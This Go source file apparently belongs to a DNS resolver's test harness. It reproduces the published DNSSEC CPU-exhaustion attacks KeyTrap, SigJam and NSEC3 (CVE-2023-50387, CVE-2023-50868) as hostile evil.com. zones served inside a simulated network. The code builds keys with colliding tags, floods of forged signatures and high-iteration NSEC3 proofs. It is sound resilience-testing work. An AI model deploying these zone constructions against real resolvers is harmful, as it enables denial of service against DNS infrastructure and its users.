package attack

import (
	"encoding/binary"
	"fmt"
	"math/rand/v2"
	"strings"
	"time"

	"github.com/sextant-dns/sextant/dnssec"
	"github.com/sextant-dns/sextant/lookup"
	"github.com/sextant-dns/sextant/resolver"
)

// Trap is a signed zone, evil.com., with its trust anchor: hostile, but signed
// with the key that the anchor names.
type Trap struct {
	key  dnssec.Signer
	keys lookup.RRset // the DNSKEY RRset
}

// newTrap makes a zone that has these keys besides its own.
func newTrap(more ...string) *Trap {
	key, err := dnssec.GenerateKey(lookup.MustName("evil.com."), dnssec.ECDSAP256SHA256, dnssec.FlagZone|dnssec.FlagSEP)
	if err != nil {
		panic(err) // of the machine's random numbers
	}
	keys := lookup.PackRdata(append(more, key.Key.Rdata)...)
	return &Trap{key: key, keys: lookup.RRset{Name: key.Key.Owner, Type: lookup.TypeDNSKEY, TTL: day, Data: keys}}
}

// Sign is set with the zone's signature, which begins to be valid a day before now
// and so has to be made in the bubble.
func (t *Trap) Sign(set lookup.RRset) lookup.RRset {
	signed, err := t.key.Sign(set, time.Now().Add(-day*time.Second), time.Now().Add(30*day*time.Second))
	if err != nil {
		panic(err)
	}
	return signed
}

// Validation makes a resolver validate the zone.
func (t *Trap) Validation() resolver.Validation {
	ds, _ := dnssec.DSOf(t.key.Key, dnssec.SHA256)
	anchor := resolver.Anchor{Zone: t.key.Key.Owner, DS: []dnssec.DS{ds}}
	return resolver.Validation{Anchor: func(name lookup.Name) (resolver.Anchor, bool) {
		return anchor, name.IsSubdomainOf(anchor.Zone)
	}}
}

// serve answers for the zone: with its keys, and with what say makes of all else.
func (t *Trap) serve(n *Internet, say func(Message) Act) {
	keys := t.Sign(t.keys)
	n.Zone("evil.com.", func(m Message) Act {
		if m.Question.Type == lookup.TypeDNSKEY {
			return Say(keys)
		}
		return say(m)
	})
}

// KeyTrap has so many keys with one tag, and as many signatures that name it on
// every RRset: each of these might have been made by each of those.
//
// Heftrig, Schulmann, Vogel, Waidner: The Harder You Try, The Harder You Fail, 2024.
func KeyTrap(keys, signatures int) Attack {
	var twins []string
	for i := range keys {
		twins = append(twins, twin(i))
	}
	t := newTrap(twins...)
	tag := dnssec.ParseKeys(lookup.RRset{Name: t.keys.Name, Type: lookup.TypeDNSKEY, Data: lookup.PackRdata(twins[0])})[0].Tag
	return Attack{
		Name: fmt.Sprintf("keytrap(%dx%d)", keys, signatures), Origin: "CVE-2023-50387", Validation: t.Validation(),
		Lay: func(n *Internet) {
			t.serve(n, func(m Message) Act {
				return Say(forged(A(m.Question.Name.String(), day, addr4(1)), t.key.Key.Owner, dnssec.RSASHA256, tag, signatures))
			})
		},
		Ask: fresh("evil.com."),
	}
}

// twin is the i-th of DNSKEYs that all have the same tag: RSA keys of 2048 bits with
// an arbitrary modulus, of which two octets make up for the others (RFC 4034 B).
func twin(i int) string {
	modulus := make([]byte, 256)
	source := rand.New(rand.NewPCG(uint64(i), 1))
	for k := range modulus {
		modulus[k] = byte(source.Uint32())
	}
	modulus[0] |= 0x80
	modulus[255] |= 1
	rdata := append([]byte{1, 0, 3, byte(dnssec.RSASHA256), 3, 1, 0, 1}, modulus...)
	at := len(rdata) - 4
	rdata[at], rdata[at+1] = 0, 0
	const want = 0x1234
	for missing := range 1 << 16 {
		binary.BigEndian.PutUint16(rdata[at:], uint16(missing))
		if k := dnssec.ParseKeys(lookup.RRset{Data: lookup.PackRdata(string(rdata))}); k[0].Tag == want {
			break
		}
	}
	return string(rdata)
}

// forged is set with so many signatures of zone that nobody has made.
func forged(set lookup.RRset, zone lookup.Name, a dnssec.Algorithm, tag uint16, signatures int) lookup.RRset {
	var sigs []string
	for i := range signatures {
		s := dnssec.Signature{
			Covered: set.Type, Algorithm: a, Labels: uint8(set.Name.Labels()), OriginalTTL: set.TTL,
			Expiration: uint32(time.Now().Add(day * time.Second).Unix()), Inception: uint32(time.Now().Add(-day * time.Second).Unix()),
			Tag: tag, Signer: zone,
			Octets: strings.Repeat(string([]byte{byte(i)}), 256),
		}
		if a != dnssec.RSASHA256 {
			s.Octets = s.Octets[:64]
		}
		sigs = append(sigs, s.Rdata())
	}
	set.Sigs = lookup.PackRdata(sigs...)
	return set
}

// SigJam has so many signatures on every RRset that name the one key there is.
func SigJam(signatures int) Attack {
	t := newTrap()
	return Attack{
		Name: fmt.Sprintf("sigjam(%d)", signatures), Origin: "CVE-2023-50387", Validation: t.Validation(),
		Lay: func(n *Internet) {
			t.serve(n, func(m Message) Act {
				return Say(forged(A(m.Question.Name.String(), day, addr4(1)), t.key.Key.Owner, dnssec.ECDSAP256SHA256, t.key.Key.Tag, signatures))
			})
		},
		Ask: fresh("evil.com."),
	}
}

// HashTrap refers to a zone with so many DS records, each with the tag of as many
// keys: each of these has to be hashed to be told from those.
func HashTrap(ds, keys int) Attack {
	return trapBelow(fmt.Sprintf("hashtrap(%dx%d)", ds, keys), ds, keys, func(i int, _ dnssec.Key) dnssec.DS {
		return dnssec.DS{Tag: 0x1234, Algorithm: dnssec.RSASHA256, Type: dnssec.SHA256, Digest: strings.Repeat(string([]byte{byte(i)}), 32)}
	})
}

// KeyTrapBelow is HashTrap with DS records that do name keys: each of these might have
// made each of the signatures over the DNSKEY RRset.
func KeyTrapBelow(ds, keys int) Attack {
	return trapBelow(fmt.Sprintf("keytrap-below(%dx%d)", ds, keys), ds, keys, func(_ int, k dnssec.Key) dnssec.DS {
		named, _ := dnssec.DSOf(k, dnssec.SHA256)
		return named
	})
}

// trapBelow refers to zones with so many keys of one tag, of which the i-th DS record,
// made for the i-th key, is in the zone above.
func trapBelow(name string, ds, keys int, of func(i int, k dnssec.Key) dnssec.DS) Attack {
	t := newTrap()
	return Attack{
		Name: name, Origin: "CVE-2023-50387", Validation: t.Validation(),
		Lay: func(n *Internet) {
			var twins []string
			for i := range keys {
				twins = append(twins, twin(i))
			}
			digests := func(zone lookup.Name) lookup.Rdata {
				parsed, all := dnssec.ParseKeys(lookup.RRset{Name: zone, Type: lookup.TypeDNSKEY, Data: lookup.PackRdata(twins...)}), []string(nil)
				for i := range ds {
					all = append(all, of(i, parsed[i%len(parsed)]).Rdata())
				}
				return lookup.PackRdata(all...)
			}
			below := func(name lookup.Name) lookup.Name { return name.Suffix(3) }
			child := n.Serve(func(m Message) Act {
				zone := below(m.Question.Name)
				if m.Question.Type == lookup.TypeDNSKEY {
					return Say(forged(lookup.RRset{Name: zone, Type: lookup.TypeDNSKEY, TTL: day, Data: lookup.PackRdata(twins...)}, zone, dnssec.RSASHA256, 0x1234, 8))
				}
				return Say(forged(A(m.Question.Name.String(), day, addr4(1)), zone, dnssec.RSASHA256, 0x1234, 8))
			})
			t.serve(n, func(m Message) Act {
				zone := below(m.Question.Name)
				act := Refer(NS(zone.String(), day, "ns."+zone.String()), A("ns."+zone.String(), day, child))
				set := t.Sign(lookup.RRset{Name: zone, Type: lookup.TypeDS, TTL: day, Data: digests(zone)})
				act.Reply.Authority = append(act.Reply.Authority, set)
				return act
			})
		},
		Ask: func(i int) lookup.Question { return asA("www.z%d.evil.com.", i) },
	}
}

// NSEC3Deep denies names of as many labels as there can be, with NSEC3 records of so
// many iterations that are signed well and prove nothing: whoever looks for the
// closest encloser hashes every name on the way.
//
// Gruza, Heftrig, Jacobsen, Schulmann, Vogel, Waidner: Attacking with Something That
// Does Not Exist, 2024.
func NSEC3Deep(iterations int) Attack {
	t := newTrap()
	return Attack{
		Name: fmt.Sprintf("nsec3-deep(%d)", iterations), Origin: "CVE-2023-50868", Validation: t.Validation(),
		Lay: func(n *Internet) {
			var proof []lookup.RRset
			for i := range 6 {
				hash := strings.Repeat(string([]byte{byte(i)}), 20)
				rdata := string([]byte{1, 0, byte(iterations >> 8), byte(iterations), 8}) + "saltsalt" + "\x14" + hash + "\x00\x01\x40"
				owner := lookup.MustName(fmt.Sprintf("%032d.evil.com.", i))
				proof = append(proof, t.Sign(lookup.RRset{Name: owner, Type: lookup.TypeNSEC3, TTL: day, Data: lookup.PackRdata(rdata)}))
			}
			soa := t.Sign(SOA("evil.com."))
			t.serve(n, func(Message) Act {
				act := Deny("evil.com.")
				act.Reply.Authority = append([]lookup.RRset{soa}, proof...)
				return act
			})
		},
		Ask: func(i int) lookup.Question { return asA("x%d.%sevil.com.", i, strings.Repeat("a.", 118)) },
	}
}
